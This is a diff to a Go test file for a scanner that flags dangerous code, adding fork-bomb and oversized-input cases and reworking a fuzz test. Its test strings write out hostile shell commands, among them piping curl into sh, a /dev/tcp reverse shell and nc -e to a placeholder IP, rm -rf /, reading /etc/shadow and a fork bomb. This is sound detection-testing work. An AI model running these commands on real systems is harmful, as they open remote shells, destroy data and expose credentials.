@@ -42,6 +42,7 @@ func TestFind(t *testing.T) {
 		{"bash", "curl -s https://x | sh\necho $(wget -qO- x)\nbash -c \"$(curl -fsSL x)\"\ncurl x | python3 -m json.tool\ncurl x | bash -s -- y\n",
 			"1:1 network, 1:21 hidden-code!, 2:8 network, 3:12 network, 3:12 hidden-code!, 4:1 network, 5:1 network, 5:10 hidden-code!"},
 		{"bash", ":(){ :|:& };:\n", "1:1 fork-bomb!"},
+		{"bash", strings.Repeat("f(){ g|h& }\n", 9) + "f(){ f|f& }\n", "10:1 fork-bomb!"},
 		{"bash", "rm -rf /\nrm -rf \"$HOME\"; rm -rf build /tmp/x\nsudo rm -r --no-preserve-root /*\n# rm -rf /\necho 'rm -rf /'\n", "1:8 destroy!, 2:8 destroy!, 3:31 destroy!"},
 		{"bash", "bash -i >& /dev/tcp/1.2.3.4/99 0>&1\ncat <<EOF\nrm -rf /\nEOF\nnc -e /bin/sh 1.2.3.4 9\n", "1:12 reverse-shell!, 5:1 network, 5:1 reverse-shell!"},
 		{"bash", "cat /etc/shadow > out\necho x > /etc/motd\necho y 2>/dev/null > /tmp/z\nif [ -f x ]; then eval \"$y\"; fi\n", "1:5 sensitive-path!, 2:10 outside, 4:19 eval"},
@@ -56,8 +57,14 @@ func TestFind(t *testing.T) {
 	if got := shown(found); got != "1:8 network!" {
 		t.Error(got)
 	}
-	if got := shown(Policy{}.Find("python", make([]byte, MaxBytes+1))); got != "1:1 unchecked!" {
-		t.Error(got)
+	for _, c := range []struct{ language, code, want string }{
+		{"python", strings.Repeat(" ", MaxBytes+1), "1:1 unchecked!"},
+		{"python", strings.Repeat("open(", 50_000), "1:1 unchecked!"},
+		{"bash", strings.Repeat("$(", 600) + strings.Repeat(")", 600) + "; rm -rf /", "1:999 unchecked!"},
+	} {
+		if got := shown(Policy{}.Find(c.language, []byte(c.code))); got != c.want {
+			t.Errorf("%.20s...: %s", c.code, got)
+		}
 	}
 	if err := (Policy{Deny: []string{"netwerk"}}).Check(); sandbox.FixOf(err) != "did you mean network?" {
 		t.Error(err)
@@ -78,9 +85,11 @@ func FuzzFind(f *testing.F) {
 	}
 	f.Fuzz(func(t *testing.T, code []byte) {
 		for _, language := range []string{"python", "typescript", "bash", "c"} {
-			found := Policy{}.Find(language, code)
-			if len(found) > maxFindings {
-				t.Errorf("%d findings", len(found))
+			f := &finder{of: map[string]int{}}
+			f.check(language, code)
+			found := f.found
+			if len(found) > maxFindings || f.looks > 2*f.mostLooks() {
+				t.Errorf("%d findings, %d looks", len(found), f.looks)
 			}
 			lines := strings.Count(string(code), "\n") + 1
 			for _, f := range found {
@@ -90,19 +99,6 @@ func FuzzFind(f *testing.F) {
 			}
 		}
 	})
-}
-
-// TestLinear: the largest text of each kind takes no longer than ordinary text of its size, as far as a multiple shows.
-func TestLinear(t *testing.T) {
-	if testing.Short() {
-		t.Skip("make check: some seconds of reading")
-	}
-	for _, piece := range []string{"(", "$(", "`", "a.", "eval(", "{a,", "from 'x'", "\"", "while(true)", "<<a\n", "/[", "f(f(", ":(){ :|"} {
-		code := []byte(strings.Repeat(piece, MaxBytes/len(piece)))
-		for _, language := range []string{"python", "javascript", "bash"} {
-			Policy{}.Find(language, code) // a quadratic one would take an hour
-		}
-	}
 }
 
 // BenchmarkFind is what a program of 1,000 lines costs.
